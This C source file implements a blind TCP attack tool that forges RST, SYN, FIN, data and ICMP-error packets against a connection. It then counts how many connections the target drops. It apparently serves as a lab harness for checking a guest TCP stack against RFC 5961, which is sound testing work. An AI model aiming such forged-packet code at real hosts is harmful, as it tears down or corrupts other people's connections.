/* SPDX-License-Identifier: MIT */
/*
 * blind.c: attacks an open connection from outside, as one who knows the two
 * addresses and ports, and guesses the rest.
 *
 *   blind --device tap0 --mac GUEST'S --host IP [--port N] [--kind KIND]
 *         [--count N] [--each N]
 *
 * The tool has the connection itself: it asks over it (HTTP, keep-alive), then
 * forges segments of its own end, and asks again after each (--each) of them.
 * A connection that no longer answers, or answers something else, was killed;
 * another is opened.
 *
 *   rst syn fin data     random sequence numbers, over the whole space
 *   rst-window …         numbers in the window but not exact: RFC 5961 has
 *                        these answered by a challenge, and nothing else
 *   rst-exact            the number that ends a connection
 *   icmp                 errors with the connection's addresses and ports, and
 *                        random sequence numbers
 */
#include "frame.h"
#include "tool.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define WINDOW 2000u /* inside of anybody's */

static const char request[] = "GET / HTTP/1.1\r\nHost: guest\r\n\r\n";
static const char poison[] = "X / HTTP/9.9\r\n\r\n";

static struct {
    struct frame_port device;
    uint8_t mac[6];
    struct sockaddr_storage to;
    socklen_t to_size;
    int fd; /* -1: none */
    struct sockaddr_in ours, theirs;
    uint32_t wanted_by_guest; /* the number of our next byte */
    uint32_t sent_by_guest;   /* the number of its next byte */
    char first[1024];         /* the answer, that later ones must equal */
} blind;

/* ---- The connection ---- */

/* Reads one answer: its size, 0 when there is none in two seconds. */
static size_t read_answer(char *out, size_t room)
{
    size_t got = 0;

    for (;;) {
        struct pollfd one = { .fd = blind.fd, .events = POLLIN };
        ssize_t n;
        char *end;

        if (poll(&one, 1, 2000) != 1)
            return 0;
        n = read(blind.fd, out + got, room - 1 - got);
        if (n <= 0)
            return 0;
        got += (size_t)n;
        out[got] = '\0';
        end = strstr(out, "\r\n\r\n");
        if (end != NULL && end[4] != '\0')
            return got;
        if (got == room - 1)
            return 0;
    }
}

/* Reads the numbers off the segments of this connection that went by. */
static void look(void)
{
    static uint8_t frame[FRAME_MAX];
    struct frame_seen seen;
    size_t size;

    while ((size = frame_receive(&blind.device, frame, sizeof frame, 20)) > 0) {
        if (frame_read_tcp(frame, size, &seen) &&
            seen.from == blind.theirs.sin_addr.s_addr &&
            seen.from_port == blind.theirs.sin_port &&
            seen.to_port == blind.ours.sin_port &&
            (seen.flags & FRAME_ACK) != 0) {
            blind.wanted_by_guest = seen.ack;
            blind.sent_by_guest = seen.seq + (uint32_t)seen.size +
                                  ((seen.flags & FRAME_SYN) != 0);
        }
    }
}

/* The same status and body; fields may tell the time. */
static bool is_same(const char *a, const char *b)
{
    const char *a_body = strstr(a, "\r\n\r\n"), *b_body = strstr(b, "\r\n\r\n");

    return strncmp(a, b, strlen("HTTP/1.1 200")) == 0 && a_body != NULL &&
           b_body != NULL && strcmp(a_body, b_body) == 0;
}

/* Asks once: does the answer come, and is it the same as ever? */
static bool ask(void)
{
    char answer[1024];
    size_t size;

    if (send(blind.fd, request, sizeof request - 1, MSG_NOSIGNAL) < 0)
        return false;
    size = read_answer(answer, sizeof answer);
    if (size == 0)
        return false;
    if (blind.first[0] == '\0')
        memcpy(blind.first, answer, size + 1);
    look();
    return is_same(answer, blind.first);
}

static void reconnect(void)
{
    socklen_t size = sizeof blind.ours;

    if (blind.fd >= 0)
        close(blind.fd);
    blind.fd = tool_connect_now(&blind.to, blind.to_size);
    getsockname(blind.fd, (struct sockaddr *)&blind.ours, &size);
    if (!ask())
        tool_die("the server does not answer");
}

/* ---- Attacks ---- */

static void forge(uint8_t flags, uint32_t seq, uint32_t ack, const void *data,
                  size_t size)
{
    uint8_t frame[256];
    struct frame_tcp tcp = {
        .to_mac = blind.mac,
        .from_mac = blind.device.mac,
        .from = blind.ours.sin_addr.s_addr,
        .to = blind.theirs.sin_addr.s_addr,
        .from_port = blind.ours.sin_port,
        .to_port = blind.theirs.sin_port,
        .seq = seq,
        .ack = ack,
        .flags = flags,
        .data = data,
        .size = size,
    };

    frame_send(&blind.device, frame, frame_write_tcp(frame, &tcp));
}

/* In the window, but never the one number that would be right. */
static uint32_t near(uint32_t number)
{
    return number + 1 + tool_random() % WINDOW;
}

static void rst(bool is_near)
{
    forge(FRAME_RST, is_near ? near(blind.wanted_by_guest) : tool_random(), 0,
          NULL, 0);
}

/* What one sends who sees the connection: RFC 5961 wants it obeyed. */
static void rst_exact(bool is_near)
{
    (void)is_near;
    forge(FRAME_RST, blind.wanted_by_guest, 0, NULL, 0);
}

static void syn(bool is_near)
{
    forge(FRAME_SYN, is_near ? near(blind.wanted_by_guest) : tool_random(), 0,
          NULL, 0);
}

static void fin(bool is_near)
{
    forge(FRAME_FIN | FRAME_ACK,
          is_near ? near(blind.wanted_by_guest) : tool_random(), tool_random(),
          NULL, 0);
}

static void data(bool is_near)
{
    /* The right place, but an acknowledgement that nobody could have sent. */
    forge(FRAME_PSH | FRAME_ACK,
          is_near ? blind.wanted_by_guest + tool_random() % WINDOW
                  : tool_random(),
          tool_random(), poison, sizeof poison - 1);
}

static void icmp(bool is_near)
{
    static const uint8_t kinds[][2] = {
        { 3, 1 }, { 3, 2 }, { 3, 3 }, { 3, 4 }
    };
    uint8_t frame[128] = { 0 }, *message = frame + 34, *quoted = message + 8;
    const uint8_t *kind = kinds[tool_random() % 4];
    uint32_t seq = htonl(is_near ? near(blind.sent_by_guest) : tool_random());
    uint16_t sum;

    message[0] = kind[0], message[1] = kind[1];
    message[7] = 68;
    frame_write_ip4(quoted, blind.theirs.sin_addr.s_addr,
                    blind.ours.sin_addr.s_addr, IPPROTO_TCP, 20);
    memcpy(quoted + 20, &blind.theirs.sin_port, 2);
    memcpy(quoted + 22, &blind.ours.sin_port, 2);
    memcpy(quoted + 24, &seq, 4);
    sum = htons(frame_sum(message, 36, 0));
    memcpy(message + 2, &sum, 2);
    frame_write_ethernet(frame, blind.mac, blind.device.mac, ETH_P_IP);
    frame_write_ip4(frame + 14, blind.ours.sin_addr.s_addr,
                    blind.theirs.sin_addr.s_addr, IPPROTO_ICMP, 36);
    frame_send(&blind.device, frame, 70);
}

static const struct kind {
    const char *name;
    void (*send)(bool is_near);
    bool is_near;
} kinds[] = {
    { "rst-exact", rst_exact, true }, { "rst", rst, false },
    { "rst-window", rst, true },      { "syn", syn, false },
    { "syn-window", syn, true },      { "fin", fin, false },
    { "fin-window", fin, true },      { "data", data, false },
    { "data-window", data, true },    { "icmp", icmp, false },
    { "icmp-window", icmp, true },
};

static const struct kind *find_kind(const char *name)
{
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++)
        if (strcmp(kinds[i].name, name) == 0)
            return &kinds[i];
    tool_die("no kind %s", name);
}

int main(int argc, char **argv)
{
    const char *device = tool_word(argc, argv, "device", "tap0");
    const char *mac = tool_word(argc, argv, "mac", "52:54:00:77:00:02");
    const char *host = tool_word(argc, argv, "host", "10.77.0.2");
    long port = tool_number(argc, argv, "port", 8080);
    const struct kind *kind = find_kind(tool_word(argc, argv, "kind", "rst"));
    long count = tool_number(argc, argv, "count", 1000);
    long each = tool_number(argc, argv, "each", 50);
    long killed = 0, sent = 0, asked = 0;

    tool_end_words(argc, argv);
    blind.to_size = tool_address(host, port, &blind.to);
    if (blind.to.ss_family != AF_INET || each < 1)
        tool_die("IPv4, and --each of at least 1");
    memcpy(&blind.theirs, &blind.to, sizeof blind.theirs);
    frame_mac(mac, blind.mac);
    frame_open(device, &blind.device);
    tool_catch_signals();
    blind.fd = -1;
    reconnect();
    while (sent < count && !tool_is_told_to_end) {
        kind->send(kind->is_near);
        sent++;
        if (sent % each != 0 && sent != count)
            continue;
        asked++;
        if (!ask()) {
            killed++;
            reconnect();
        }
    }
    printf("sent %ld\n", sent);
    printf("asked %ld\n", asked);
    printf("killed %ld\n", killed);
    return 0;
}
